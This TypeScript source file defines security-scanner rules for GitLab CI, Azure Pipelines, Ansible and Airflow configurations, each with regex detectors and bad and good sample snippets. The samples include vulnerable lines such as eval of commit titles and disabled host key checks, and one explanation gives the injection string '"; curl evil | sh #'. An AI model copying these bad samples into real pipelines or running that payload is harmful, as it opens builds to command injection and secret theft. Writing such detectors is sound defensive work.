/** GitLab CI and Ansible: text of strangers run by a build, playbooks that open files or trust every host. */
import type { Rule } from '../../lib/types.ts';

export const gitlabEval: Rule = {
  category: 'infrastructure',
  severity: 'high',
  cwe: [78, 95],
  id: 'ci-eval-of-commit-text',
  title: 'Text of a commit or merge request run as code',
  why: 'Whoever names a branch or writes a title writes the command: eval and sh -c take it apart once more.',
  fix: 'Use the variable in quotes as an argument: "$CI_COMMIT_REF_NAME", without eval or sh -c.',
  near: ['ci_commit_', 'ci_merge_request_', 'ci_external_pull_request_', 'github_head_ref', 'build_sourcebranch', 'bitbucket_branch', 'change_title', 'change_branch'],
  find: [/^[^#\n]{0,80}\b(?:eval|(?:ba|z|da)?sh[ \t]+-c|python3?[ \t]+-c|node[ \t]+-e)[ \t][^\n#]{0,150}\$\{?(?:CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG|AUTHOR)|CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME|GITHUB_HEAD_REF|BUILD_SOURCEBRANCH(?:NAME)?|BITBUCKET_BRANCH|CHANGE_(?:TITLE|BRANCH))\b/m],
  where: { path: 'config-path' },
  bad: { '.gitlab-ci.yml': ['    - eval "deploy $CI_COMMIT_TITLE"\n', '    - bash -c "echo $CI_MERGE_REQUEST_TITLE"\n', '    - sh -c "x $CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME"\n', '    - sh -c "git checkout $GITHUB_HEAD_REF"\n', '    - eval "x ${BUILD_SOURCEBRANCH}"\n', '    - eval x $BITBUCKET_BRANCH\n', '    - sh -c "x $CHANGE_TITLE"\n', '    - sh -c "x $CHANGE_BRANCH"\n'] },
  good: { '.gitlab-ci.yml': ['    - echo "$CI_COMMIT_TITLE"\n', '    # - eval "$CI_COMMIT_TITLE"\n', '    - eval "$(ssh-agent -s)"\n', '    - sh -c "x $CI_COMMIT_SHA"\n'], 'a.js': ['eval "x $CI_COMMIT_TITLE"'] },
};

/** learn.microsoft.com/azure/devops/pipelines/process/variables: $( ) is filled in before the shell reads the line. */
export const azureScript: Rule = {
  ...gitlabEval,
  cwe: [...gitlabEval.cwe],
  severity: 'medium',
  id: 'azure-pipeline-script-injection',
  title: 'Text of a commit in a script',
  why: 'The macro is put into the script before the shell reads it: a message or branch such as `"; curl evil | sh #` runs as a command.',
  fix: 'Give it to the step as env: MSG: $(Build.SourceVersionMessage), and write "$MSG" in the script.',
  near: ['$(build.source', '$(system.pullrequest.source', '$(build.requestedfor)'],
  find: [/^[ \t]{0,40}(?:-[ \t]+)?(?![ \t-])(?:(?:script|bash|pwsh|powershell|inlineScript):|(?![\w."'-]{1,60}[ \t]*:[ \t]|-[ \t]+[\w."'-]{1,60}:[ \t]|#))[^#\n]{0,150}\$\((?:Build\.SourceVersionMessage|Build\.SourceBranch(?:Name)?|Build\.RequestedFor|System\.PullRequest\.SourceBranch(?:Name)?)\)/m],
  where: { path: { trait: 'file', of: ['azure-pipelines'] } },
  bad: { 'azure-pipelines.yml': ['steps:\n  - script: echo "$(Build.SourceVersionMessage)"\n', '  - bash: |\n      git checkout $(System.PullRequest.SourceBranch)\n', '      echo built for $(Build.RequestedFor)\n'] },
  good: { 'azure-pipelines.yml': ['  - script: echo "$MSG"\n    env:\n      MSG: $(Build.SourceVersionMessage)\n', 'name: $(Build.SourceBranchName)-$(Rev:r)\n', '  # - script: echo $(Build.SourceVersionMessage)\n', '  - script: echo $(Build.BuildId)\n', "  condition: eq('$(Build.SourceBranch)', 'x')\n", '  - task: Docker@2\n    inputs:\n      tags: $(Build.SourceBranchName)\n'], 'a.yml': ['  - script: echo "$(Build.SourceVersionMessage)"\n'] },
};

export const gitlabRemote: Rule = {
  category: 'infrastructure',
  severity: 'medium',
  cwe: [829, 494],
  id: 'ci-remote-include',
  title: 'Build file taken from another server',
  why: 'Whoever controls that address decides what the build runs, with its secrets.',
  fix: 'Include it by project and ref: (a commit id), or add integrity: sha256-….',
  near: ['remote:'],
  find: [/^[ \t-]{0,40}remote:[ \t]*["']?https?:\/\/[^\s"'#]{1,200}["']?[ \t]*\r?$(?!\n[ \t]*integrity:)/m],
  where: { path: { trait: 'file', of: ['gitlab-ci'] } },
  bad: { '.gitlab-ci.yml': ['include:\n  - remote: https://shop.com/ci.yml\n', "include:\n  remote: 'http://shop.com/ci.yml'\n"] },
  good: { '.gitlab-ci.yml': ['include:\n  - project: shop/ci\n    ref: v1\n', 'include:\n  - remote: https://shop.com/ci.yml\n    integrity: sha256-{{43:base64}}=\n', '  # - remote: https://shop.com/ci.yml\n'], 'a.yml': ['  - remote: https://shop.com/ci.yml\n'] },
};

export const ansibleMode: Rule = {
  category: 'race-condition',
  severity: 'medium',
  cwe: [732],
  id: 'file-mode-everyone',
  title: 'File that everyone may write',
  why: 'Any user and any program on the machine can change the file.',
  fix: "Give it to the user that needs it: owner, and mode: '0640'.",
  near: ['mode:', 'mode ='],
  find: [/^[ \t-]{0,40}(?:defaultMode|mode|file_permission)[ \t]*[:=][ \t]*["']?(?:0?777|0?666|0o777|0o666|a\+rwx|u=rwx,g=rwx,o=rwx)["']?[ \t]*\r?$/m],
  where: { path: { trait: 'file', of: ['yaml', 'terraform'] } },
  bad: { 'tasks.yml': ["    mode: '0777'\n", '    mode: 0666\n', '    mode: a+rwx\n', '        defaultMode: 0777\n'], 'main.tf': ['  mode = "0777"\n'] },
  good: { 'tasks.yml': ["    mode: '0644'\n", "    # mode: '0777'\n", "    mode: '1777'\n"], 'main.tf': ['  mode = "0640"\n'], 'a.txt': ["    mode: '0777'\n"] },
};

/** docs.ansible.com: ansible.builtin.debug, "Protecting sensitive data with no_log" */
export const ansibleSecretShown: Rule = {
  category: 'sensitive-logging',
  severity: 'medium',
  cwe: [532],
  id: 'ansible-secret-shown',
  title: 'Secret written to the output of a playbook',
  why: 'What a task prints stands in terminals, logs and the pages of the job, for all who may read those.',
  fix: 'Remove the task, or print only that it is there: {{ db_password | length > 0 }}.',
  near: ['debug:'],
  find: [
    /^[ \t-]{0,40}(?:ansible\.builtin\.)?debug:[ \t]*\r?\n[ \t]{1,40}var:[ \t]*["']?(?:[\w.]{0,40}[_.])?(?:passwords?|secrets?|tokens?|api_?keys?|private_?keys?|credentials?)(?:\.\w{1,40}|\[[^\]\n]{1,40}\]){0,3}["']?[ \t]*\r?$/im,
    /^[ \t-]{0,40}(?:ansible\.builtin\.)?debug:[ \t]*(?:\r?\n[ \t]{1,40}msg:|msg=)[^\n]{0,120}\{\{[ \t]{0,3}(?:[\w.]{0,40}[_.])?(?:passwords?|secrets?|tokens?|api_?keys?|private_?keys?|credentials?)(?:\.\w{1,40}){0,2}[ \t]{0,3}\}\}/im,
  ],
  where: { path: { trait: 'file', of: ['yaml'] } },
  bad: { 'main.yml': ['- name: Show\n  ansible.builtin.debug:\n    var: app_secrets\n', '- debug:\n    msg: "using {{ db_password }}"\n', '- debug:\n    msg: "{{ db_host }}: {{ billing.secret.username }} / {{ billing.secret.password }}"\n', '- debug: msg="token {{ api_token }}"\n'] },
  good: { 'main.yml': ['- debug:\n    var: app_version\n', '- debug:\n    msg: "{{ app_secrets | length }} secrets"\n', '# - debug:\n#     var: app_secrets\n'], 'a.md': ['- debug:\n    var: app_secrets\n'] },
};

/** docs.ansible.com, "Hide sensitive data in task output": no_log */
export const ansibleLogKept: Rule = {
  ...ansibleSecretShown,
  id: 'ansible-no-log-off',
  title: 'Task with a secret whose arguments are logged',
  why: 'What a task is given stands in its output and in the logs of the machines, for all who may read those.',
  fix: 'Write no_log: true.',
  near: ['password: "{{', "password: '{{", 'token: "{{', 'secret: "{{', 'api_key: "{{', 'no_log:'],
  find: [
    /(?:password|token|secret|api_key):[ \t]["']\{\{[^\n]{1,80}\n(?:[ \t][^\n]{0,100}\n){0,4}?[ \t]{1,12}no_log:[ \t]["']?(?:false|no|off)\b/iy,
    /no_log:[ \t]["']?(?:false|no|off)\b["']?\r?\n(?:[ \t][^\n]{0,100}\n){0,6}?[ \t]{1,20}[a-z_]{0,30}(?:password|token|secret|api_key):[ \t]["']?\{\{/iy,
  ],
  bad: { 'main.yml': ['- name: Make the user\n  postgresql_user:\n    name: "{{ db_user }}"\n    password: "{{ db_password }}"\n    db: app\n  no_log: false\n', ...['token', 'secret', 'api_key'].map((key) => `- name: Log in\n  uri:\n    url: https://a.example\n    ${key}: "{{ it }}"\n  no_log: no\n`), "- name: Make\n  user:\n    password: '{{ p }}'\n  no_log: false\n", '- name: Make the user\n  no_log: no\n  mysql_user:\n    name: app\n    password: "{{ db_password }}"\n'] },
  good: { 'main.yml': ['- name: Make the user\n  mysql_user:\n    password: "{{ db_password }}"\n  no_log: true\n', '- name: Show\n  command: app --version\n  no_log: false\n'], 'a.md': ['    password: "{{ p }}"\n  no_log: false\n'] },
};

/** airflow.apache.org/docs: core.enable_xcom_pickling, core.allowed_deserialization_classes */
export const airflowPickles: Rule = {
  category: 'deserialization',
  severity: 'medium',
  cwe: [502],
  id: 'airflow-any-class',
  title: 'Results of tasks loaded as any class',
  why: 'Whoever can write the result of one task runs code in the workers and the server that read it.',
  fix: 'Leave enable_xcom_pickling off, and name your own classes in allowed_deserialization_classes.',
  near: ['enable_xcom_pickling', 'allowed_deserialization_classes'],
  find: [/^(?!\s{0,20}[#;])[^\n]{0,60}(?:\b|__)ENABLE_XCOM_PICKLING["']?[ \t]*[=:][ \t]*["']?(?:true|1)\b/im, /^(?!\s{0,20}[#;])[^\n]{0,60}(?:\b|__)ALLOWED_DESERIALIZATION_CLASSES["']?[ \t]*[=:][ \t]*["']?\.?\*["']?[ \t]*\r?$/im],
  where: { path: 'config-path' },
  bad: { 'airflow.cfg': ['enable_xcom_pickling = True\n', 'allowed_deserialization_classes = *\n'], 'compose.yaml': ['      AIRFLOW__CORE__ENABLE_XCOM_PICKLING: "True"\n'] },
  good: { 'airflow.cfg': ['enable_xcom_pickling = False\n', '# enable_xcom_pickling = True\n', 'allowed_deserialization_classes = airflow.*\n'], 'a.js': ['enable_xcom_pickling = True'] },
};

export const ansibleHostKeys: Rule = {
  category: 'insecure-transport',
  severity: 'medium',
  cwe: [295, 322],
  id: 'ansible-host-keys-off',
  title: 'Hosts trusted unseen',
  why: 'Anyone on the way can stand in for a machine, and gets the commands and secrets meant for it.',
  fix: 'Leave the check on and fill known_hosts from a source you trust.',
  near: ['host_key_checking'],
  find: [/^[^#\n]{0,40}\b(?:ANSIBLE_)?HOST_KEY_CHECKING["']?[ \t]*[=:][ \t]*["']?(?:false|no|0)\b/im],
  where: { path: 'config-path' },
  bad: { 'ansible.cfg': ['host_key_checking = False\n'], '.gitlab-ci.yml': ['  ANSIBLE_HOST_KEY_CHECKING: "false"\n'] },
  good: { 'ansible.cfg': ['host_key_checking = True\n', '# host_key_checking = False\n'], 'a.js': ['host_key_checking = False'] },
};

/** docs.ansible.com: get_url and unarchive (checksum), apt (deb), yum and dnf (name) */
export const ansibleCleartext: Rule = {
  category: 'insecure-transport',
  severity: 'medium',
  cwe: [319, 494],
  id: 'ansible-download-cleartext',
  title: 'Program fetched without TLS by a playbook',
  why: 'Everyone on the way can answer with a program of their own, and it is installed as root on each machine.',
  fix: 'Use https, and checksum: sha256:… where the module has it.',
  near: ['get_url:', 'unarchive:', 'deb: http:', 'deb: "http:', "deb: 'http:", 'apt_key:'],
  find: [
    /^[ \t-]{0,20}(?:ansible\.(?:builtin|windows)\.)?(?:win_)?(?:get_url|unarchive|apt_key):[ \t]*\r?\n(?:[ \t]{2,20}(?!checksum|id:)(?=\S)[^\n]{1,120}\n){0,4}?[ \t]{2,20}(?:url|src):[ \t]*["']?http:\/\/(?!localhost|127\.|10\.|192\.168\.|\{\{|[\w-]+[:/]|[^/\s]*\.(?:local|internal|lan|svc)\b)[^\n]{3,200}(?=\n|$)(?!(?:\n[ \t]{2,20}(?!-)[^\n]{1,120}){0,4}\n[ \t]{2,20}(?:checksum|id):)/m, /^[ \t]{2,20}deb:[ \t]*["']?http:\/\/(?!localhost|127\.|10\.|192\.168\.|\{\{|[\w-]+[:/]|[^/\s]*\.(?:local|internal|lan|svc)\b)/m,
  ],
  where: { path: { trait: 'file', of: ['yaml'] } },
  bad: { 'tasks/main.yml': ['- name: agent\n  ansible.builtin.get_url:\n    url: http://dl.shop.com/agent.tgz\n    dest: /tmp/agent.tgz\n', '- unarchive:\n    src: http://dl.shop.com/agent.tgz\n    dest: /opt\n    remote_src: true\n', '- apt_key:\n    url: http://dl.shop.com/key.asc\n', '- apt:\n    deb: http://dl.shop.com/a.deb\n', '- apt:\n    deb: "http://dl.shop.com/a.deb"\n', "- apt:\n    deb: 'http://dl.shop.com/a.deb'\n"] },
  good: { 'tasks/main.yml': ['- get_url:\n    url: https://dl.shop.com/agent.tgz\n', '- get_url:\n    url: http://dl.shop.com/agent.tgz\n    dest: /tmp/agent.tgz\n    checksum: sha256:{{64:hex}}\n', '- unarchive:\n    src: agent.tgz\n', '- get_url:\n    url: http://mirror.internal/agent.tgz\n', '- apt:\n    deb: https://dl.shop.com/a.deb\n', '- apt:\n    deb: "https://dl.shop.com/a.deb"\n', "- apt:\n    deb: '/tmp/a.deb'\n", '- apt_key:\n    url: https://dl.shop.com/key.asc\n', '- apt_key:\n    id: {{40:hex}}\n    url: http://dl.shop.com/key.asc\n'], 'a.md': ['- apt:\n    deb: http://dl.shop.com/a.deb\n'] },
};
